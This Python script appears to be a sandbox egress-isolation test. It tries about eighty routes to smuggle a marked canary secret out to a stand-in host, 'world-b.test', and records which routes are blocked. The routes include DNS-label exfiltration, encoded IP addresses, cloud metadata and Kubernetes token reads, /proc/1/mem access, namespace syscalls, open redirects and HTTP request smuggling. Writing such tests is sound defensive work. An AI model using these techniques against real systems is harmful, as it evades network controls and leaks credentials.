# Tries each way out of WAYS with a secret of its own, `<whose>-<way>-x`, and prints what came of it: "reached", "sent" where only the
# world outside can tell, or how it was refused. inputs: whose secrets
# they are, the name and port that are granted, addresses and ports that are not.
import ctypes, errno, json, os, socket, stat, struct, urllib.request
from concurrent.futures import ThreadPoolExecutor

libc = ctypes.CDLL(None, use_errno=True)
granted, port = inputs["granted"]
there, elsewhere, other = inputs["there"], inputs["elsewhere"], inputs["other"]
WAYS = {}


def way(name, run, *arguments):
    WAYS[name] = lambda: run(f"{inputs['whose']}-{name}-x".encode(), *arguments)


def call(number, *arguments):
    if libc.syscall(number, *arguments) == -1:
        raise OSError(ctypes.get_errno(), "")


def tcp(secret, host, to, family=socket.AF_INET, prepare=lambda one: None):
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(3)
        prepare(one)
        one.connect((host, to))
        one.sendall(secret)
    return "reached"


def later(secret, host, to):
    with socket.socket() as one:
        one.settimeout(0)
        code = one.connect_ex((host, to))
        one.settimeout(3)
        if code not in (0, errno.EINPROGRESS):
            raise OSError(code, "")
        one.sendall(secret)
    return "sent"


def fast(secret, host, to):
    with socket.socket() as one:
        one.settimeout(3)
        one.sendto(secret, socket.MSG_FASTOPEN, (host, to))
    return "sent"


def udp(secret, host, to, answers=False, protocol=0):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, protocol) as one:
        one.settimeout(3)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        one.connect((host, to))
        one.send(secret)
        if answers:
            one.recv(512)
            return "reached"
    return "sent"


def question(name, kind):
    labels = b"".join(bytes([len(part)]) + part for part in name.split(b"."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)


def ask(secret, server, kind=1, below=b"world-b.test"):
    return udp(question(secret + b"." + below, kind), server, 53, answers=True)


def ask_by_tcp(secret, server):
    text = question(secret + b".world-b.test", 1)
    with socket.create_connection((server, 53), timeout=3) as one:
        one.sendall(struct.pack(">H", len(text)) + text)
        return "reached" if one.recv(512) else "cut"


# An answer of one's own name server says nothing of who else was asked.
def ask_own(secret, kind, below):
    with open("/etc/resolv.conf") as file:
        server = next(line.split()[1] for line in file if line.startswith("nameserver"))
    ask(secret, server, kind, below)
    return "sent"


def look_up(secret, below):
    socket.getaddrinfo(secret.decode() + below, 443)
    return "reached"


def answered(secret, host, to, first):
    with socket.create_connection((host, to), timeout=3) as one:
        one.sendall(first + secret)
        return "reached" if one.recv(64) else "cut"


def is_open(secret, *arguments):
    socket.socket(*arguments).close()
    return "reached"


def ping(secret, kind):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as one:
        one.settimeout(3)
        one.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 0) + secret, (there, 0))
        one.recv(256)
    return "reached"


def virtual_machine(secret):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as one:
        one.settimeout(3)
        one.connect((2, 1024))
    return "reached"


def unix(secret, addresses):
    for address in addresses():
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(3)
            try:
                one.connect(address)
                return "reached"
            except OSError:
                pass
    return "none"


def abstract():
    known = ["\0ccos", "\0ccos-relay", "\0containerd-shim"]
    try:
        with open("/proc/net/unix") as file:
            known += ["\0" + line.split()[-1][1:] for line in file if line.split()[-1].startswith("@")]
    except OSError:
        pass
    return known


def on_disk():
    for folder, _, names in os.walk("/"):
        if folder.startswith(("/proc", "/sys")):
            continue
        for name in names:
            path = os.path.join(folder, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    yield path
            except OSError:
                pass


def inherited(secret):
    found = "none"
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, secret)
                found = "reached"
        except OSError:
            pass
    return found


def readable(secret, paths):
    for path in paths:
        try:
            with open(path, "rb") as file:
                file.read(1)
            return "reached"
        except OSError:
            pass
    return "none"


def namespace(secret):
    with open("/proc/1/ns/net") as file:
        call(308, file.fileno(), 0x40000000)
    return "reached"


def unshared(secret):
    call(272, 0x40000000)
    return "reached"


def ring(secret):
    call(425, 8, ctypes.create_string_buffer(120))
    return "reached"


def redirected(secret, target):
    told = secret.decode()[::-1]  # by which it is not the secret that the granted server was told
    urllib.request.urlopen(f"http://{granted}:{port}/redirect-to/{target}/{told}", timeout=3).read(16)
    return "reached"


# Through a connection that is granted. Whatever comes of it, what counts is what the server was told.
def tunnel(secret, *parts):
    with socket.create_connection((granted, port), timeout=3) as one:
        for part in parts:
            one.sendall(part.replace(b"SECRET", secret))
            try:
                one.recv(4096)
            except TimeoutError:
                pass
    return "sent"


def drops(secret, text):
    with socket.create_connection((granted, port), timeout=3) as one:
        for byte in text.replace(b"SECRET", secret):
            one.sendall(bytes([byte]))
    return "sent"


def hello(secret, name):
    name = name.replace(b"SECRET", secret)
    server = struct.pack(">HBH", len(name) + 3, 0, len(name)) + name
    extensions = struct.pack(">2H", 0, len(server)) + server if name else b""
    extensions += struct.pack(">2H", 0xFF77, len(secret)) + secret
    body = b"\3\3" + bytes(32) + b"\0" + struct.pack(">H", 2) + b"\x13\x01" + b"\1\0" + struct.pack(">H", len(extensions)) + extensions
    shake = b"\1" + struct.pack(">I", len(body))[1:] + body
    return tunnel(secret, b"\x16\3\1" + struct.pack(">H", len(shake)) + shake)


def device(one):
    one.setsockopt(socket.SOL_SOCKET, 25, b"eth0")


def source_route(one):
    one.setsockopt(socket.IPPROTO_IP, 4, b"\x83\x07\x04" + socket.inet_aton(elsewhere) + b"\0")


number = struct.unpack(">I", socket.inet_aton(elsewhere))[0]
parts = [int(part) for part in elsewhere.split(".")]
six = "::%x:%x" % (number >> 16, number & 0xFFFF)
way("address-of-the-granted-name", tcp, there, port)
way("another-address", tcp, elsewhere, port)
way("another-port", tcp, granted, other)
way("another-name", tcp, "world-b.test", port)
way("address-as-a-number", tcp, str(number), port)
way("address-in-octal", tcp, ".".join("0%o" % part for part in parts), port)
way("address-in-hex", tcp, "0x%08x" % number, port)
way("address-in-two-parts", tcp, "%d.%d" % (parts[0], number & 0xFFFFFF), port)
way("mapped-into-ipv6", tcp, "::ffff:" + elsewhere, port, socket.AF_INET6)
way("compatible-with-ipv6", tcp, six, port, socket.AF_INET6)
way("by-nat64", tcp, "64:ff9b" + six, port, socket.AF_INET6)
way("by-6to4", tcp, "2002:%x:%x::1" % (number >> 16, number & 0xFFFF), port, socket.AF_INET6)
way("ipv6", tcp, "2001:db8::1", port, socket.AF_INET6)
way("ipv6-with-a-zone", tcp, "fe80::1%lo", port, socket.AF_INET6)
way("not-blocking", later, elsewhere, port)
way("fast-open", fast, elsewhere, port)
way("by-device", tcp, elsewhere, port, socket.AF_INET, device)
way("source-route", tcp, elsewhere, port, socket.AF_INET, source_route)
way("udp", udp, elsewhere, port)
way("udp-to-the-granted-name", udp, granted, port)
way("udp-lite", udp, elsewhere, port, False, 136)
way("quic", lambda secret: udp(b"\xc0\0\0\0\1" + bytes(1195) + secret, granted, 443))
way("broadcast", udp, "255.255.255.255", port)
way("multicast", udp, "224.0.0.251", 5353)
way("name-server-of-the-cluster", ask, inputs["dns"])
way("name-server-of-the-cluster-by-tcp", ask_by_tcp, inputs["dns"])
way("name-server-elsewhere", ask, elsewhere)
way("label-of-another-name", look_up, ".world-b.test")
way("label-of-the-granted-name", look_up, "." + granted)
way("label-of-the-cluster", look_up, ".default.svc.cluster.local")
way("label-in-txt", ask_own, 16, granted.encode())
way("label-in-null", ask_own, 10, b"world-b.test")
way("raw-icmp", ping, socket.SOCK_RAW)
way("ping", ping, socket.SOCK_DGRAM)
way("packet-socket", is_open, socket.AF_PACKET, socket.SOCK_RAW)
way("raw-ip", is_open, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
way("sctp", is_open, socket.AF_INET, socket.SOCK_STREAM, 132)
way("virtual-machine-socket", virtual_machine)
way("abstract-sockets", unix, abstract)
way("sockets-on-disk", unix, on_disk)
way("inherited-descriptors", inherited)
way("api-server", tcp, *inputs["api"])
way("api-server-of-the-service", tcp, "10.96.0.1", 443)
way("kubelet", tcp, *inputs["kubelet"])
way("metadata", tcp, "169.254.169.254", 80)
way("egress-proxy", tcp, *inputs["proxy"])
way("admin-port-of-the-proxy", tcp, *inputs["admin"])
way("report-endpoint", tcp, *inputs["report"])
way("tokens", readable, ["/ccos/egress/token", "/proc/1/root/ccos/egress/token", "/ccos/tokens/egress", "/ccos/tokens/report", "/proc/1/root/ccos/tokens/egress",
                         "/var/run/secrets/kubernetes.io/serviceaccount/token"])
way("memory-of-process-1", readable, ["/proc/1/mem", "/proc/1/environ"])
way("namespace-of-process-1", namespace)
way("namespace-of-its-own", unshared)
way("io-uring", ring)
way("granted-name-inside-the-cluster", answered, "kubernetes.default.svc.cluster.local", 443, b"GET / HTTP/1.0\r\n\r\n")
way("redirect-to-an-address", redirected, f"{elsewhere}:{port}")
way("redirect-to-metadata", redirected, "169.254.169.254:80")
way("redirect-to-another-name", redirected, f"world-b.test:{port}")

own = b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % granted.encode()
foreign = b"GET /SECRET HTTP/1.1\r\nHost: world-b.test\r\n\r\n"
post = b"POST / HTTP/1.1\r\nHost: %s\r\n" % granted.encode()
way("host-of-another", tunnel, foreign)
way("host-of-another-drop-by-drop", drops, foreign)
way("host-twice", tunnel, own[:-2] + b"Host: world-b.test\r\nX: SECRET\r\n\r\n")
way("host-folded", tunnel, own[:-4] + b"\r\n world-b.test\r\nX: SECRET\r\n\r\n")
way("host-missing", tunnel, b"GET /SECRET HTTP/1.1\r\n\r\n")
way("host-with-bare-line-feeds", tunnel, foreign.replace(b"\r", b""))
way("absolute-uri", tunnel, b"GET http://world-b.test/SECRET HTTP/1.1\r\nHost: %s\r\n\r\n" % granted.encode())
way("second-request", tunnel, own, foreign)
way("pipelined-request", tunnel, own + foreign)
way("smuggled-by-length-and-chunks", tunnel, post + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + foreign)
way("smuggled-by-two-lengths", tunnel, post + b"Content-Length: 0\r\nContent-Length: 60\r\n\r\n" + foreign)
way("smuggled-by-odd-chunks", tunnel, post + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + foreign)
way("smuggled-by-chunk-size", tunnel, post + b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + foreign)
way("connect-in-the-tunnel", tunnel, b"CONNECT world-b.test:80 HTTP/1.1\r\nHost: world-b.test\r\nX: SECRET\r\n\r\n")
way("http2-without-tls", tunnel, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nSECRET")
way("server-name-of-another", hello, b"SECRET.test")
way("no-server-name", hello, b"")
# The twin of the last ones: this does arrive.
way("granted", tunnel, own[:-2] + b"X: SECRET\r\n\r\n")

def attempt(name):
    try:
        return WAYS[name]()
    except TimeoutError:
        return "timeout"
    except socket.gaierror:
        return "unknown"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
    except Exception as error:
        return "%s: %s" % (type(error).__name__, error)


# Before anything else has a socket.
answers = {"inherited-descriptors": attempt("inherited-descriptors")}
with ThreadPoolExecutor(8) as pool:
    rest = [name for name in WAYS if name not in answers]
    answers.update(zip(rest, pool.map(attempt, rest)))
print(json.dumps(answers))
